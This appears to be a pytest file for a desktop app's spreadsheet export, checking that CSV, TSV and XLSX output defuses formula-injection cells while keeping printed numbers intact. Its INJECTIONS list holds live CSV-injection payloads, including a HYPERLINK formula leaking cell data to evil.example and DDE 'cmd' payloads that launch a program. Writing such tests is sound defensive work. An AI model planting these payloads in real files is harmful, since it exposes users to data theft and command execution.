"""CSV and the clipboard's TSV never carry a live formula; printed numbers stay numbers.

OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is prefixed with a
single quote. The line we draw: a cell that is wholly a signed number as printed (``-12.5``,
``+7``, ``-1 234,50``, ``-5%``) or a lone ``-`` (a table's "none") is left as it is, since
no spreadsheet reads a formula in it; everything else with such a start gets the quote.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.core.exports import write_csv, write_xlsx
from desktop.core.tables import TableCell, TableGrid, parse_table_html, spreadsheet_safe

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1-1",
    "+",
    "--",
    "-$",
    "-12 + 3",
]
NUMBERS = [
    "-12.5",
    "+7",
    "-1 234,50",
    "-1,234.50",
    "-0.5%",
    "-.5",
    "-$12.50",
    "-12,50 €",
    "-",
    "12",
    "−3,5",
]


def _row(values: list[str]) -> TableGrid:
    cells = tuple(TableCell(0, i, 1, 1, v) for i, v in enumerate(values))
    return TableGrid(1, len(values), cells)


@pytest.mark.parametrize("cell", INJECTIONS)
def test_a_formula_start_is_neutralised_with_a_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS)
def test_a_printed_number_or_a_lone_dash_is_left_as_printed(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


def test_given_hostile_cells_when_written_as_csv_then_every_cell_reads_back_quoted(
    tmp_path: Path,
) -> None:
    grid = _row([*INJECTIONS, *NUMBERS, "plain"])
    path = tmp_path / "t.csv"
    write_csv(grid, path)
    (row,) = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert row == ["'" + c for c in INJECTIONS] + NUMBERS + ["plain"]


def test_given_hostile_cells_when_copied_as_tsv_then_they_are_neutralised_too() -> None:
    grid = _row(["=1+1", "-12.5", "@x"])
    (row,) = list(csv.reader(io.StringIO(grid.to_tsv(), newline=""), dialect="excel-tab"))
    assert row == ["'=1+1", "-12.5", "'@x"]


def test_xlsx_stores_formula_like_cells_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    grid = parse_table_html(
        "<table><tr><td>=1+1</td><td>@SUM(A1)</td><td>-12.5</td><td>+7</td></tr></table>"
    )
    path = tmp_path / "t.xlsx"
    write_xlsx([("s", grid)], path)
    sheet = load_workbook(path)["s"]
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        ("=1+1", "s"),
        ("@SUM(A1)", "s"),
        (-12.5, "n"),
        (7, "n"),
    ]
